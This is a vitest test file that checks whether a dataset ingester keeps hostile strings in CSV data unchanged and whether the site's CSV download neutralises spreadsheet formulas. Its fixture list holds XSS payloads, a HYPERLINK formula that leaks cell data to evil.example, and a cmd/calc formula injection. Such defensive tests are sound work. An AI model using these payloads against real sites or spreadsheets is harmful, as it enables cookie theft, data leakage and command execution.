// HTML, <script> and spreadsheet formulas in names and categories are data: they are loaded unchanged,
// and the site's CSV download (src/components/csv.ts) neutralises the formulas. (That the pages render
// them as text is checked in the built site, in Chromium.)
import { mkdirSync, writeFileSync } from "node:fs";
import { join } from "node:path";
import { afterAll, describe, expect, it } from "vitest";
import { openDatabase, queryRows } from "../../lib/db/duckdb";
import { readDataset } from "../../lib/ingest/readDataset";
import { toCsv } from "../../src/components/csv";
import { tempDir } from "../helpers/tempDir";

const work = tempDir("event-kit-markup-");
afterAll(() => work.cleanup());

const NASTY = [
  "<script>alert(document.cookie)</script>",
  '<img src=x onerror="alert(1)">',
  "<b>Bold</b> & <i>Co</i>",
  '=HYPERLINK("http://evil.example/?leak="&A1,"Click me")',
  "+SUM(1+1)*cmd|' /C calc'!A0",
  "@SUM(A1)",
  "-2+3",
];
const csvField = (text: string) => `"${text.replaceAll('"', '""')}"`;

describe("markup and formulas in the data", () => {
  it("survive ingest unchanged, in products and in events", async () => {
    const dir = join(work.path, "shop");
    mkdirSync(dir);
    writeFileSync(
      join(dir, "products.csv"),
      ["product_id,product_name,category,price", ...NASTY.map((text, i) => `P${i},${csvField(text)},${csvField(NASTY[(i + 1) % NASTY.length]!)},${i + 1}`)].join("\n"),
    );
    writeFileSync(
      join(dir, "events.csv"),
      [
        "event_id,user_id,session_id,event_type,timestamp,product_id,category,price,quantity",
        ...NASTY.map((text, i) => `e${i},U1,S1,product_view,2025-03-04T10:0${i}:00Z,P${i},${csvField(text)},${i + 1},`),
      ].join("\n"),
    );
    const db = await openDatabase();
    const summary = await readDataset(db.connection, dir);
    expect(summary.validation.totals.set_aside).toBe(0);
    const products = await queryRows<{ product_name: string; category: string }>(db.connection, "SELECT product_name, category FROM products ORDER BY product_id");
    expect(products.map((p) => p.product_name)).toEqual(NASTY);
    expect(products.map((p) => p.category)).toEqual(NASTY.map((_, i) => NASTY[(i + 1) % NASTY.length]));
    const events = await queryRows<{ category: string }>(db.connection, "SELECT category FROM events ORDER BY event_id");
    expect(events.map((e) => e.category)).toEqual(NASTY);
    db.close();
  });

  it("are neutralised by the site's CSV download: formulas become text, markup stays as written", () => {
    const csv = toCsv(NASTY.map((name, i) => ({ product_name: name, price: -(i + 1) })));
    const lines = csv.trimEnd().split("\r\n");
    expect(lines[0]).toBe("product_name,price");
    expect(lines.slice(1)).toEqual([
      "<script>alert(document.cookie)</script>,-1",
      '"<img src=x onerror=""alert(1)"">",-2',
      "<b>Bold</b> & <i>Co</i>,-3",
      `"'=HYPERLINK(""http://evil.example/?leak=""&A1,""Click me"")",-4`,
      "'+SUM(1+1)*cmd|' /C calc'!A0,-5",
      "'@SUM(A1),-6",
      "'-2+3,-7",
    ]);
    // No cell of the download starts a formula.
    for (const line of lines.slice(1)) expect(line).not.toMatch(/^"?[=+@]/);
  });
});
